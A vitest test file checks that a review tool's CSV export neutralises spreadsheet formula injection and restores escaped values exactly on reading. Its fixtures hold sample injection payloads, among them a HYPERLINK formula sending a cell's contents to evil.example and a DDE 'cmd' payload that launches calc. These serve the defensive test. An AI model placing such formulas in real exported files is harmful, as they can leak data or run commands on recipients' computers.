/**
 * CSV formula injection (OWASP): a cell a spreadsheet would run as a formula is written with
 * a leading apostrophe and quoted; our reader takes it off again, so a round trip is exact.
 */
import { describe, expect, it } from 'vitest';
import { csvCell, neutraliseFormula, restoreFormula } from '../../shared/review/csv-cell';
import { parseCsvRecords, readRatingsCsv, writeRatingsCsv } from '../../shared/review/csv';

const DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "'=already quoted"];

describe('csvCell', () => {
  it('starts every formula-like text cell with an apostrophe inside quotes', () => {
    for (const v of DANGEROUS) {
      const cell = csvCell(v);
      expect(cell.startsWith(`"'`), JSON.stringify(v)).toBe(true);
      // What a spreadsheet would see: the field parsed back, and its first character is not a formula trigger.
      const [field] = parseCsvRecords(`${cell}\n`)[0]!.fields;
      expect(field!.startsWith("'")).toBe(true);
    }
  });

  it('leaves plain text and plain numbers alone', () => {
    expect(csvCell('plans first')).toBe('plans first');
    expect(csvCell('-1')).toBe('-1');
    expect(csvCell('+2.5')).toBe('+2.5');
    expect(csvCell("it's fine")).toBe("it's fine");
    expect(csvCell('a, b')).toBe('"a, b"');
  });

  it('restores exactly what was neutralised, including values that began with apostrophes', () => {
    for (const v of [...DANGEROUS, "''=x", "'plain", 'plain', '-1', '']) expect(restoreFormula(neutraliseFormula(v))).toBe(v);
  });
});

describe('ratings CSV with formula-like notes', () => {
  const ratings = [
    { session: '=cmd|calc', reviewer: '@ada', factor: 'scoping' as const, score: 4, note: '-1 for skipping the tests' },
    { session: 's2', reviewer: 'bob', factor: 'overall' as const, score: null, note: '=HYPERLINK("x")', phase: '+after' },
  ];

  it('writes no cell a spreadsheet would evaluate', () => {
    const text = writeRatingsCsv(ratings);
    for (const { fields } of parseCsvRecords(text)) for (const f of fields) expect(/^[=+\-@\t\r]/.test(f), f).toBe(false);
    expect(text).toContain(`"'-1 for skipping the tests"`);
  });

  it('reads its own output back to the same values', () => {
    const { ratings: back, problems } = readRatingsCsv(writeRatingsCsv(ratings));
    expect(problems).toEqual([]);
    expect(back.map(({ line: _line, ...r }) => r)).toEqual(ratings.map((r) => ({ ...r })));
  });
});
